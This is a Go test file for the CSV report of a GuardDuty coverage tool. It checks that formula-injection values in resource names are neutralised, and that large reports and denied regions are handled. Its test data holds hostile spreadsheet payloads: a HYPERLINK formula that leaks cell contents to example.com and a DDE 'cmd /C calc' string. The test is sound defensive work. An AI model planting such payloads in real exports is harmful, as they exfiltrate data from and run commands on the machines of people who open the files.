package main

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"guardduty-coverage-notifier/pkg/guardduty/guarddutytest"
)

// rowsOf are the rows of a CSV report, by their headings.
func rowsOf(t *testing.T, document string) []map[string]string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(document)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("no CSV: %v:\n%s", err, document)
	}
	var rows []map[string]string
	for _, record := range records[1:] {
		row := make(map[string]string)
		for i, cell := range record {
			row[records[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

// TestNoCellIsAFormula has names that a spreadsheet would run, follow or take for another row.
func TestNoCellIsAFormula(t *testing.T) {
	var resources []guarddutytest.Resource
	hostile := map[string]string{
		`=HYPERLINK("https://example.com?"&A1,"x")`: `'=HYPERLINK("https://example.com?"&A1,"x")`,
		"+1+cmd|' /C calc'!A0":                      "'+1+cmd|' /C calc'!A0",
		"-2+3":                                      "'-2+3",
		"@SUM(A1)":                                  "'@SUM(A1)",
		"\t=1":                                      "'=1",
		"\r\n=1":                                    "'=1",
		"＝1＋1":                                      "'＝1＋1",
		"＠SUM(A1)":                                  "'＠SUM(A1)",
		"a,b\"c\nd":                                 `a,b"c d`,
		"a=b":                                       "a=b",
		"\x1b[31mred":                               "\ufffd[31mred",
	}
	for name := range hostile {
		resources = append(resources, guarddutytest.Resource{
			AccountID: name, Status: "UNHEALTHY", Issue: name,
			Details: guarddutytest.Details{Type: "EC2", EC2: &guarddutytest.EC2{InstanceID: name}},
		})
	}
	cloud := fakeCloud(t, "eu-central-1", map[string]guarddutytest.Region{"eu-central-1": guarddutytest.List(resources...)})
	got := startReport(t, "", cloud, "--format", "csv")
	rows := rowsOf(t, got.stdout)
	if len(rows) != len(hostile) || got.code != exitUnknown || got.stderr != "" {
		t.Fatalf("%d rows, exit code %d: %s", len(rows), got.code, got.stderr)
	}
	for i, row := range rows {
		want := hostile[resources[i].Details.EC2.InstanceID]
		for _, column := range []string{"name", "account", "issues"} {
			if row[column] != want {
				t.Errorf("%s %q, want %q", column, row[column], want)
			}
		}
	}
}

func TestCSVHasARowForEachResource(t *testing.T) {
	const resources = 5000
	status := func(i int) string {
		if i%7 == 0 {
			return "UNHEALTHY"
		}
		return "HEALTHY"
	}
	many := guarddutytest.Region{Detector: "d", Len: resources, At: func(i int) guarddutytest.Resource {
		return guarddutytest.Resource{
			AccountID: "111122223333", Status: status(i), UpdatedAt: guarddutytest.Seconds(reportedAt),
			Details: guarddutytest.Details{Type: "EKS", EKS: &guarddutytest.EKS{ClusterName: "c" + strconv.Itoa(i)}},
		}
	}}
	denied := guarddutytest.Region{Fault: func(guarddutytest.Call) *guarddutytest.Answer { return guarddutytest.Denied("ListDetectors") }}
	cloud := fakeCloud(t, "eu-central-1", map[string]guarddutytest.Region{"eu-central-1": many, "eu-west-1": denied})
	got := startReport(t, "", cloud, "--format", "csv", "--region", "eu-central-1", "--region", "eu-west-1")
	if got.code != exitFailed || !strings.Contains(got.stderr, "eu-west-1 is missing or incomplete: denied: ") {
		t.Errorf("exit code %d: %s", got.code, got.stderr)
	}
	rows := rowsOf(t, got.stdout)
	if len(rows) != resources {
		t.Fatalf("%d rows, want %d", len(rows), resources)
	}
	for i, row := range rows {
		want := map[string]string{"name": "c" + strconv.Itoa(i), "status": status(i), "region": "eu-central-1"}
		if status(i) == "UNHEALTHY" {
			want["finding"], want["since"] = "no-reason-given", "2026-03-02T09:00:00Z"
		}
		seen := map[string]string{}
		for column := range want {
			seen[column] = row[column]
		}
		if diff := cmp.Diff(want, seen); diff != "" {
			t.Fatalf("row %d (-want +got):\n%s", i, diff)
		}
	}
}
